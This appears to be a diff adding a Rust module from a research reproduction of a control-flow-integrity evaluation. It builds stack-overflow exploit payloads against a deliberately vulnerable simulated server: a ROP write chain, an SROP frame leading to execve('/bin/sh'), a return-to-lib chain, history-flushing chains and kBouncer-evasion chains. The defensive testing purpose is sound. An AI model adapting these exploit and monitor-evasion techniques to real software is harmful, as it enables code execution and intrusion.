@@ -1,0 +1,195 @@
+//! Attack payload construction against the vulnerable nginx-alike.
+//!
+//! Reproduces the §7.1.2 evaluation: "we artificially implant an obvious
+//! vulnerability in nginx code and conduct one traditional ROP attack and
+//! another SROP attack on it. These two attacks have different attack
+//! routes, while both end up with writing arbitrary data into a specified
+//! file" — plus the return-to-lib route (§7.1.1's library-pollution
+//! discussion) and the history-flushing chains of Carlini et al. that the
+//! `pkt_count ≥ 30` window defends against.
+//!
+//! All payloads exploit the unbounded copy in the server's `parse` routine:
+//! bytes 32.. of the request payload overwrite the parser's return address
+//! and become the attacker's stack.
+
+use crate::gadgets::GadgetMap;
+use fg_isa::image::Image;
+use fg_isa::insn::regs::*;
+use fg_workloads::servers::REQ_BUF;
+
+/// Syscall numbers (attacker-side constants).
+const SYS_WRITE: u64 = 2;
+const SYS_EXECVE: u64 = 7;
+const SYS_SIGRETURN: u64 = 8;
+
+/// Offset of the overflow payload within process memory: the request's
+/// payload bytes live at `REQ_BUF + 2`.
+fn payload_va(offset: usize) -> u64 {
+    (REQ_BUF as u64) + 2 + offset as u64
+}
+
+/// Wraps chain words (and trailing attacker data) into a request whose
+/// payload smashes the parser's stack frame.
+fn overflow_request(chain: &[u64], data: &[u8]) -> Vec<u8> {
+    let mut payload = vec![b'A'; 32];
+    for w in chain {
+        payload.extend_from_slice(&w.to_le_bytes());
+    }
+    payload.extend_from_slice(data);
+    fg_workloads::request(1, &payload)
+}
+
+/// Traditional ROP: chain `pop`-gadgets to stage a `write(1, "HACKED!\n", 8)`
+/// and a clean `exit(0)` — caught by FlowGuard at the `write` endpoint.
+pub fn rop_write(image: &Image, g: &GadgetMap) -> Vec<u8> {
+    let exit = image.symbol("exit").expect("libc exit");
+    let msg = b"HACKED!\n";
+    // Chain: pop r0; 2; pop r1; 1; pop r2,r3; &msg; 8; syscall;
+    //        pop r1; 0; exit
+    let chain_len = 11usize;
+    let msg_va = payload_va(32 + chain_len * 8);
+    let chain = [
+        g.pop_reg(R0),
+        SYS_WRITE,
+        g.pop_reg(R1),
+        1,
+        *g.pop2.get(&(R2.index(), R3.index())).expect("pop r2,r3 gadget"),
+        msg_va,
+        msg.len() as u64,
+        g.syscall(),
+        g.pop_reg(R1),
+        0,
+        exit,
+    ];
+    debug_assert_eq!(chain.len(), chain_len);
+    overflow_request(&chain, msg)
+}
+
+/// SROP: stage `sigreturn` via a syscall trampoline, with a forged signal
+/// frame that context-switches into `execve("/bin/sh")` — caught at the
+/// `sigreturn` endpoint.
+pub fn srop_execve(_image: &Image, g: &GadgetMap) -> Vec<u8> {
+    let syscall_gadget = g.syscall();
+    let path = b"/bin/sh";
+    // Chain: pop r0; SIGRETURN; syscall → kernel reads the frame at sp.
+    let chain_head = [g.pop_reg(R0), SYS_SIGRETURN, syscall_gadget];
+    // Forged frame: [pc, r0..r15].
+    let frame_off = 32 + chain_head.len() * 8;
+    let path_va = payload_va(frame_off + super::SIGFRAME_WORDS * 8);
+    let mut frame = [0u64; super::SIGFRAME_WORDS];
+    frame[0] = syscall_gadget; // pc: re-enter the syscall trampoline
+    frame[1] = SYS_EXECVE; // r0
+    frame[2] = path_va; // r1
+    frame[3] = path.len() as u64; // r2
+    frame[15] = (REQ_BUF as u64) + 0x800; // r14 = sp: scratch heap
+    let mut chain = chain_head.to_vec();
+    chain.extend_from_slice(&frame);
+    overflow_request(&chain, path)
+}
+
+/// Return-to-lib: jump straight into `write_out` with attacker arguments —
+/// no mid-function gadgets at all, just a library entry point.
+pub fn ret_to_lib(image: &Image, g: &GadgetMap) -> Vec<u8> {
+    let write_out = image.symbol("write_out").expect("libc write_out");
+    let exit = image.symbol("exit").expect("libc exit");
+    let msg = b"LIBPWN!\n";
+    let chain_len = 9usize;
+    let msg_va = payload_va(32 + chain_len * 8);
+    let chain = [
+        g.pop_reg(R1),
+        msg_va,
+        *g.pop2.get(&(R2.index(), R3.index())).expect("pop r2,r3 gadget"),
+        msg.len() as u64,
+        0,
+        write_out,
+        g.pop_reg(R1),
+        0,
+        exit,
+    ];
+    debug_assert_eq!(chain.len(), chain_len);
+    overflow_request(&chain, msg)
+}
+
+/// History flushing (Carlini & Wagner, §7.1.1): prefix the hijack with
+/// `n_links` NOP-like `ret` gadgets, then divert into a *legitimate* handler
+/// whose own (fully legal) indirect transfers push the illegal pairs out of
+/// a too-small checking window before the handler's `write` endpoint fires.
+///
+/// With the paper's `pkt_count = 30` the window still reaches the illegal
+/// pairs and the attack is caught; with a tiny window it evades.
+pub fn history_flush(image: &Image, g: &GadgetMap, n_links: usize) -> Vec<u8> {
+    assert!(n_links <= 24, "payload budget allows at most 24 links");
+    // A legitimate address-taken handler: entry 2 of the dispatch table —
+    // the "time" handler, which performs a *fixed, small* number of legal
+    // indirect transfers (VDSO call + returns) before its `write` endpoint.
+    // That bounded legal suffix is exactly what a window shorter than the
+    // suffix cannot see past.
+    let table = image.symbol("handlers").expect("dispatch table symbol");
+    let h2 = u64::from_le_bytes(
+        image.read_bytes(table + 16, 8).expect("table entry").try_into().expect("8 bytes"),
+    );
+    let mut chain = Vec::with_capacity(n_links + 1);
+    for i in 0..n_links {
+        chain.push(g.rets[i % g.rets.len()]);
+    }
+    chain.push(h2);
+    overflow_request(&chain, &[])
+}
+
+/// The Carlini & Wagner kBouncer evasion ("ROP is still dangerous"): a
+/// chain built *only* from call-preceded, long, NOP-like gadgets.
+///
+/// * every chain link is `cp_wrapper+8` — the return site of a real call
+///   (so the call-preceded heuristic passes) followed by 24 no-effect moves
+///   (so the short-gadget-chain heuristic passes);
+/// * the chain ends at the return site inside the server's "time" handler,
+///   whose fall-through legitimately performs the attacker's `write`.
+///
+/// LBR-heuristic monitors (kBouncer/ROPecker) pass this flow; FlowGuard
+/// still catches it because the gadget-to-gadget TIP pairs are not ITC-CFG
+/// edges.
+pub fn kbouncer_evasion(image: &Image, n_links: usize) -> Vec<u8> {
+    assert!(n_links <= 24, "payload budget allows at most 24 links");
+    let cp = image.symbol("cp_wrapper").expect("libc cp_wrapper");
+    let rs = cp + 8; // call-preceded: insn before it is `call cp_noop`
+    // Return site inside handler 2 (after its `call gettimeofday`): the
+    // fall-through writes one byte and returns.
+    let table = image.symbol("handlers").expect("dispatch table symbol");
+    let h2 = u64::from_le_bytes(
+        image.read_bytes(table + 16, 8).expect("table entry").try_into().expect("8 bytes"),
+    );
+    let rs2 = h2 + 8;
+    let mut chain = vec![rs; n_links];
+    chain.push(rs2);
+    overflow_request(&chain, &[])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::gadgets;
+
+    #[test]
+    fn payloads_fit_the_length_byte() {
+        let w = fg_workloads::nginx();
+        let g = gadgets::find(&w.image);
+        for p in [
+            rop_write(&w.image, &g),
+            srop_execve(&w.image, &g),
+            ret_to_lib(&w.image, &g),
+            history_flush(&w.image, &g, 12),
+        ] {
+            assert!(p.len() <= 257, "request {} bytes", p.len());
+            assert!(p[1] as usize + 2 == p.len(), "length byte consistent");
+            assert!(p[1] > 32, "payload actually overflows");
+        }
+    }
+
+    #[test]
+    #[should_panic(expected = "at most 24")]
+    fn flush_budget_enforced() {
+        let w = fg_workloads::nginx();
+        let g = gadgets::find(&w.image);
+        let _ = history_flush(&w.image, &g, 100);
+    }
+}
